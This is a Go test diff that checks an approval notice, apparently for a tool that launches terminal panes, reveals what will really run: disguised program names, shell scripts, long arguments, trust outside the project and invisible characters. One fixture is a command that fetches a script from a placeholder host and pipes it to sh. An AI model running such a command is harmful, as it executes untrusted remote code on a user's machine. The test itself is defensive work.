@@ -4,6 +4,7 @@ import (
 	"flag"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"unicode"
@@ -208,5 +209,41 @@ func checkHarmless(t testing.TB, notice string) {
 		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == 0x200b) {
 			t.Errorf("notice holds %U", r)
 		}
+	}
+}
+
+// shownOf is the notice of a snapshot with that one pane.
+func shownOf(p snapshot.Pane) string {
+	trust := policy.Plan
+	s := session(p)
+	s.Policy = &policy.Policy{Trust: &trust}
+	return Build(s, Flags{}, Facts{Project: "/p", Panes: map[layout.PaneID]PaneFacts{}}).Notice()
+}
+
+// What is approved is seen: the program that runs and not what it looks like,
+// the script of a shell, and what the yes writes elsewhere.
+func TestNoticeShowsWhatRuns(t *testing.T) {
+	script := "curl -s http://x.example/y | sh # " + strings.Repeat("and so on ", 3)
+	many := append([]string{"vim"}, slices.Repeat([]string{"word"}, 3000)...)
+	for name, c := range map[string]struct {
+		pane  snapshot.Pane
+		shows string
+		lacks string
+	}{
+		"a name with an extension": {snapshot.Pane{Argv: []string{"claude.evil", "hi"}}, "program claude.evil", ""},
+		"a shell's script":         {snapshot.Pane{Argv: []string{"sh", "-ec", script}}, "sh -ec " + script, ""},
+		"a long script":            {snapshot.Pane{Argv: []string{"bash", "-c", strings.Repeat("x", 500)}}, "xxx…", strings.Repeat("x", 200)},
+		"trust beyond the project": {snapshot.Pane{Argv: []string{"claude"}, Cwd: ptr("/")}, "cwd / · claude is told to trust it", ""},
+		"many words":               {snapshot.Pane{Argv: many}, "word … 2940 more word(s)", strings.Repeat("word ", 100)},
+		"one name many times": {snapshot.Pane{Argv: []string{"sh"}, ContextEnv: [][2]string{{"CONTEXT_MODE_DIR", "/a"}, {"CONTEXT_MODE_DIR", "/b"}}},
+			"CONTEXT_MODE_DIR=/b", "/a"},
+		"blanks": {snapshot.Pane{Argv: []string{"vim", "a\u00a0\u2800\u3164b"}}, `a\u{a0}\u{2800}\u{3164}b`, "\u00a0"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			got := shownOf(c.pane)
+			if !strings.Contains(got, c.shows) || c.lacks != "" && strings.Contains(got, c.lacks) {
+				t.Errorf("want %q without %q in\n%s", c.shows, c.lacks, got)
+			}
+		})
 	}
 }
